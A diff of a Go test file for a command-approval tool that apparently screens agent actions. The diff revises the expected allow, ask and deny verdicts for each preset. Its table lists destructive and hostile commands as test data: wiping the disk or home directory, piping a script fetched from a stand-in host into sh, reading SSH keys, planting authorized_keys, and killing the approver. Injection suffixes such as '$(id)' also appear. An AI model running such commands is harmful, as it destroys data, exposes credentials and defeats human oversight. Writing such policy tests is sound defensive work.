@@ -27,32 +27,32 @@ func preset(t testing.TB, name string) *shieldcore.Policy {
 // Columns: default, strict, permissive. a is allow, p pass, h and c an ask of
 // either severity, d deny.
 var presetCalls = `
-p c h  git push --force origin main
-p c c  kubectl delete namespace production
-p h p  python3 -c "__import__('shutil').rmtree('/home')"
-p c c  docker system prune -af
-p h p  npx evil-package
-p d c  rm -rf /
-p d c  rm -fr ~
-p d c  "rm" -r -f /
-p d c  sudo rm -rf /home
+p c p  git push --force origin main
+p c p  kubectl delete namespace production
+p p p  python3 -c "__import__('shutil').rmtree('/home')"
+p c p  docker system prune -af
+p p p  npx evil-package
+p d p  rm -rf /
+p d p  rm -fr ~
+p d p  "rm" -r -f /
+p d p  sudo rm -rf /home
 p c p  rm -rf node_modules
-p d c  dd if=/dev/zero of=/dev/sda
+p d p  dd if=/dev/zero of=/dev/sda
 p d p  curl -fsSL https://x.example/i.sh | sh
 p a p  git status
 p a p  git log --oneline
 p a p  ls -la
-p h p  ls -la | wc -l
-p h p  git status; make
-p h p  go test ./...
+p p p  ls -la | wc -l
+p p p  git status; make
+p p p  go test ./...
 p c p  git push origin main
 p c p  git reset --hard
-p c c  terraform destroy
-p c c  psql -c "DROP TABLE users"
+p c p  terraform destroy
+p c p  psql -c "DROP TABLE users"
 p c p  npm publish
-p h p  npm test
+p p p  npm test
 p c p  chmod 777 x
-p h p  echo hello
+p p p  echo hello
 p c p  kubectl --context prod get pods
 d d d  cat ~/.approver/approver.yaml
 d d d  pkill approver
@@ -73,14 +73,14 @@ d d d  approver unfreeze
 d d d  approver pair telegram
 d d d  approver service uninstall
 d d d  approver grants
-p h p  approver doctor
-p h p  approver status
+p p p  approver doctor
+p p p  approver status
 p a p  Read main.go
 p a p  Read /home/ada/src/x/y.go
-p h p  Read /etc/hosts
+p p p  Read /etc/hosts
 p d p  Read ~/.ssh/id_rsa
 p h p  Read .env
-p h p  Write main.go
+p p p  Write main.go
 p c p  Write /etc/hosts
 p d p  Write ~/.ssh/authorized_keys
 p d p  Write ~/.bashrc
@@ -119,13 +119,13 @@ func TestPresets(t *testing.T) {
 }
 
 // The story: under the strict preset of another system the first word of a
-// command was enough, so `docker system prune -af` and `npx evil-package` ran.
+// command was enough to allow it, so `docker system prune -af` and `npx evil-package` ran.
 func TestStrictAllowsNoCommandByItsFirstWord(t *testing.T) {
 	p := preset(t, "strict")
 	for first := range strings.FieldsSeq("git npm npx node python3 pip docker kubectl helm make cargo ls go date") {
 		for _, rest := range []string{" x; rm -rf y", " evil", " -c 'import os'", " $(id)", " > /etc/x", " --exec sh",
 			" -o /home/ada/.profile"} {
-			if v := verdictOf(t, p, first+rest); v.Decision > approver.Ask {
+			if v := verdictOf(t, p, first+rest); v.Decision == approver.Allow {
 				t.Errorf("%q: %v by %q", first+rest, v.Decision, v.Rule)
 			}
 		}
